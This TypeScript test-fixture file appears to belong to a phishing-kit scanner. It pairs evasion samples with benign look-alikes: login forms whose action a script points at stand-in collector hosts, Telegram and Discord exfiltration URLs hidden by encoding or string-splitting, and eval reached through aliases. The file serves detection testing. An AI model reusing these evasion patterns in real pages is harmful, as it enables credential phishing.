// Issue 54: refused kits rewritten the way a browser still runs them (the action set by script,
// the password field made by script, the page in an <iframe srcdoc>, the collector's URL in
// another case, with a trailing dot, percent-encoded or split into pieces, eval reached by a
// computed name or an alias). Each must find what the original kit finds, on the line given;
// each has a benign look-alike that must find nothing.

import type { ScanFixture } from "./scan-fixtures";

export interface Evasion extends ScanFixture {
  rule: string;
  line: number;
  lookAlike: ScanFixture;
}

const benign = (name: string, path: string, content: string): ScanFixture => ({ name, path, content, rule: null });

const PACKED = `"ZG9jdW1lbnQubG9jYXRpb249Imh0dHBzOi8vZXhhbXBsZS5jb20iOw=="`;

export const evasions: Evasion[] = [
  {
    name: "the form's action set by a script's property assignment",
    path: "index.html",
    rule: "credential-form-offsite",
    line: 7,
    content: `<!doctype html><html><head><title>Sign in</title></head><body>
<form id="login" method="post" action="/login">
  <input type="email" name="login" placeholder="Email">
  <input type="password" name="passwd" placeholder="Password">
  <button type="submit">Next</button>
</form>
<script>document.getElementById("login").action = "https://secure-login-verify.example.net/next.php";</script>
</body></html>
`,
    lookAlike: benign(
      "a form whose action a script sets to the drop's own path",
      "index.html",
      `<!doctype html><html><head><title>Sign in</title></head><body>
<form id="login" method="post" action="/login">
  <input type="email" name="login"><input type="password" name="passwd"><button>Next</button>
</form>
<script>document.getElementById("login").action = "/session/next";</script>
</body></html>
`,
    ),
  },
  {
    name: "the form's action set by setAttribute",
    path: "mail.html",
    rule: "credential-form-offsite",
    line: 5,
    content: `<!doctype html><title>Mail</title>
<form method="post"><input name="user"><input type="password" name="pass"><button>Log in</button></form>
<script>
  var f = document.forms[0];
  f.setAttribute("action", "https://collector.example.org/p");
</script>
`,
    lookAlike: benign(
      "a newsletter form beside a login form, its action set by setAttribute to another host",
      "mail.html",
      `<!doctype html><title>Mail</title>
<form id="in" method="post" action="/login"><input name="user"><input type="password" name="pass"></form>
<form id="news"><input type="email" name="email"><button>Subscribe</button></form>
<script>document.getElementById("news").setAttribute("action", "https://lists.example.org/subscribe");</script>
`,
    ),
  },
  {
    name: "the password input created by a script",
    path: "verify.html",
    rule: "credential-form-offsite",
    line: 2,
    content: `<!doctype html><title>Verify</title>
<form id="f" method="post" action="https://secure-login-verify.example.net/next.php">
  <input type="email" name="email"><button>Next</button>
</form>
<script>
  var p = document.createElement("input");
  p.type = "password"; p.name = "pass";
  document.getElementById("f").appendChild(p);
</script>
`,
    lookAlike: benign(
      "a password input created by a script in a form posting to the drop, beside a search form posting elsewhere",
      "verify.html",
      `<!doctype html><title>Members</title>
<form id="search" action="https://duckduckgo.com/"><input name="q"></form>
<form id="f" method="post" action="/login"><input type="email" name="email"></form>
<script>
  var p = document.createElement("input");
  p.setAttribute("type", "password");
  document.getElementById("f").appendChild(p);
</script>
`,
    ),
  },
  {
    name: "the password input inserted as HTML by a script",
    path: "inbox.html",
    rule: "credential-form-offsite",
    line: 2,
    content: `<!doctype html><title>Inbox</title>
<form method="post" action="https://mail-secure.example.com/collect">
  <input type="email" name="email"><div id="slot"></div><button>Continue</button>
</form>
<script>document.getElementById("slot").innerHTML = '<input type="password" name="pw">';</script>
`,
    lookAlike: benign(
      "a password input inserted as HTML on a page that sends nothing elsewhere",
      "inbox.html",
      `<!doctype html><title>Inbox</title>
<form method="post" action="/session"><input type="email" name="email"><div id="slot"></div></form>
<script>document.getElementById("slot").innerHTML = '<input type="password" name="pw">';</script>
`,
    ),
  },
  {
    name: "the kit inside an <iframe srcdoc>",
    path: "index.html",
    rule: "credential-form-offsite",
    line: 3,
    content: `<!doctype html><title>Account</title>
<p>Loading your account…</p>
<iframe style="border:0;width:100%" srcdoc="<form method=&quot;post&quot; action=&quot;https://secure-login-verify.example.net/next.php&quot;><input type=&quot;password&quot; name=&quot;p&quot;></form>"></iframe>
`,
    lookAlike: benign(
      "an <iframe srcdoc> with a login form posting to the drop",
      "index.html",
      `<!doctype html><title>Account</title>
<iframe srcdoc="<h1>Members</h1><form method=post action=/login><input type=password name=p></form><p>Or write to <a href='https://t.me/example'>us</a>.</p>"></iframe>
`,
    ),
  },
  {
    name: "the collector's host in capitals, in a script",
    path: "assets/send.js",
    rule: "exfiltration-endpoint",
    line: 2,
    content: `function report(data) {
  navigator.sendBeacon("https://API.TELEGRAM.ORG/bot6123456789:AAH-kit/sendMessage?chat_id=-100&text=" + data);
}
`,
    lookAlike: benign(
      "Telegram links as <a> elements in text, in capitals",
      "contact.html",
      `<!doctype html><title>Contact</title>
<p>Write to us on <a href="https://T.ME/Example_Support">Telegram</a>, or read
<a href="HTTPS://CORE.TELEGRAM.ORG/bots/api">the Bot API</a> and
<a href="https://API.TELEGRAM.ORG/">api.telegram.org</a>.</p>
`,
    ),
  },
  {
    name: "the collector's host with a trailing dot, as a form action",
    path: "survey.html",
    rule: "exfiltration-endpoint",
    line: 2,
    content: `<!doctype html><title>Win a gift card</title>
<form method="post" action="https://api.telegram.org./bot6123456789:AAH-kit/sendMessage">
  <input name="card"><button>Send</button>
</form>
`,
    lookAlike: benign(
      "a password form posting to the drop's own host written with a trailing dot",
      "login.html",
      `<!doctype html><title>Login</title>
<form action="https://own-drop.drops.test./login"><input type="password" name="p"></form>
<form action="https://duckduckgo.com./"><input name="q"></form>
`,
    ),
  },
  {
    name: "the collector's path percent-encoded",
    path: "assets/xhr.js",
    rule: "exfiltration-endpoint",
    line: 3,
    content: `function send(data) {
  var xhr = new XMLHttpRequest();
  xhr.open("POST", "https://api.telegram.org/%62ot6123456789:AAH-kit/sendMessage");
  xhr.send(data);
}
`,
    lookAlike: benign(
      "a percent-encoded path on the same service that is not a collector",
      "assets/invite.js",
      `fetch("https://discord.com/%61pi/v10/invites/example").then((r) => r.json());\n`,
    ),
  },
  {
    name: "the collector's URL split into literals joined with +",
    path: "assets/app.js",
    rule: "exfiltration-endpoint",
    line: 2,
    content: `var token = "6123456789:AAH-kit";
var api = "https://api.tele" + "gram.org/b" + "ot" + token + "/sendMessage";
function send(text) {
  fetch(api, { method: "POST", body: JSON.stringify({ chat_id: "-100", text: text }) });
}
`,
    lookAlike: benign(
      "string concatenations that build no collector's URL",
      "assets/links.js",
      `var id = location.hash.slice(1);
var a = "https://api.tele" + "phone.example/bot" + id;
var b = \`https://core.tele\` + \`gram.org/bots/api\`;
document.querySelector("#docs").href = b;
fetch(a);
`,
    ),
  },
  {
    name: "the collector's URL split into template literals and constants",
    path: "assets/hook.js",
    rule: "exfiltration-endpoint",
    line: 3,
    content: `const host = \`discord\`;
const id = "1234567890/AbCdEf";
const hook = \`https://\` + host + ".com/api/" + \`webhooks/\` + id;
export function post(content) {
  return fetch(hook, { method: "POST", body: JSON.stringify({ content }) });
}
`,
    lookAlike: benign(
      "a template literal and constants that build the service's documentation URL",
      "assets/docs.js",
      `const host = \`discord\`;
const docs = \`https://\` + host + ".com/developers/docs/resources/webhook";
export const link = docs;
`,
    ),
  },
  {
    name: "eval reached through a computed name",
    path: "loader.js",
    rule: "obfuscated-script",
    line: 2,
    content: `(function () {
  window["ev" + "al"](atob(${PACKED}));
})();
`,
    lookAlike: benign(
      "a computed name that folds to something other than eval",
      "loader.js",
      `(function () {
  var out = window["eval" + "uate"](atob(${PACKED}));
  console["lo" + "g"](atob(${PACKED}));
})();
`,
    ),
  },
  {
    name: "eval reached through an alias",
    path: "alias.js",
    rule: "obfuscated-script",
    line: 3,
    content: `var run = eval;
var payload = atob(${PACKED});
run(payload);
`,
    lookAlike: benign(
      "an alias of something other than eval called with decoded text",
      "alias.js",
      `var show = console.log;
var payload = atob(${PACKED});
show(payload);
`,
    ),
  },
  {
    name: "Function reached through an alias, in an inline script",
    path: "inline.html",
    rule: "obfuscated-script",
    line: 4,
    content: `<!doctype html><title>Page</title>
<script>
var F = window["Func" + "tion"];
new F(unescape("%61%6c%65%72%74%28%31%29"))();
</script>
`,
    lookAlike: benign(
      "a constructor alias that is not Function, over decoded text",
      "inline.html",
      `<!doctype html><title>Page</title>
<script>
var B = window["Bl" + "ob"];
new B([unescape("%61%6c%65%72%74")]);
</script>
`,
    ),
  },
];
